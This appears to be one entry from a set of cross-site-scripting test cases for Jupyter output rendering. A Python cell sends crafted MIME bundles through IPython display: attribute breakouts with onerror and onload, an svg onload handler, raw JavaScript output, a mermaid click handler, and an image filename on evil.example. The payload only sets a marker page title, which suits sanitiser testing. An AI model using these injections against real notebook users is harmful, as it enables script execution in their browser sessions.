# attack: imágenes que no lo son, metadatos y tipos de salida inventados
# entry: 30

from IPython.display import display
RUN = "document.title='GANA'"
display({"image/png": f'" onerror="{RUN}', "text/plain": "x"}, raw=True)
display({"image/svg+xml": f"<svg onload={RUN}>", "application/javascript": RUN, "application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/vnd.mermaid": "graph TD; click A call alert()"}, raw=True)
display({"image/png": "iVBORw0KGgo="}, raw=True, metadata={"image/png": {"width": f'1" onload="{RUN}'}, "filenames": {"image/png": "http://evil.example/x.png"}})
